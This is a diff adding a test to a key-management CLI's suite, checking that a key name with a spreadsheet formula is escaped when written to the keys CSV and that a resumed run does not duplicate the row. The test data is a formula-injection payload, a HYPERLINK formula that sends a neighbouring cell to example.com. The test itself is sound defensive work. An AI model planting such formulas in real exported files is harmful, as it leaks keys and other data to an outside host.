@@ -81,6 +81,22 @@ describe("a file", () => {
     expect(await cli.api("GET", `/v1/keys/${id}`)).toMatchObject({ scopes: ["orders:read", "orders:write"] });
   });
 
+  it("keeps spreadsheets from running a name in the file of new keys, also where a run continues", async () => {
+    const name = '=HYPERLINK(""https://example.com/?k=""&B2)';
+    const file = write("formulas.csv", `tenant_id,name\n${cli.seed.tenant_id},"${name}"\n`);
+    expect((await createKeys(file)).code).toBe(0);
+    const keys = join(cli.dir, "formulas.csv.keys.csv");
+    const written = readFileSync(keys, "utf8");
+    expect(written.endsWith(`,"'${name}"\n`)).toBe(true);
+    // The key was written, but the row was not marked as done: it is created again, and found in the file by its id.
+    const state = join(cli.dir, "formulas.csv.keyrack-state");
+    writeFileSync(state, `${readFileSync(state, "utf8").split("\n")[0]}\n`);
+    expect((await createKeys(file)).code).toBe(0);
+    expect(readFileSync(keys, "utf8")).toBe(written);
+    const id = written.split("\n")[1]?.split(",")[0];
+    expect(await cli.api("GET", `/v1/keys/${id}`)).toMatchObject({ name: '=HYPERLINK("https://example.com/?k="&B2)' });
+  });
+
   it("continues a run whose state was written by 0.1", async () => {
     const args = ["tenant", "import", write("earlier.csv", "external_id\ne-1\ne-2\n"), "--json"];
     await cli.run(args);
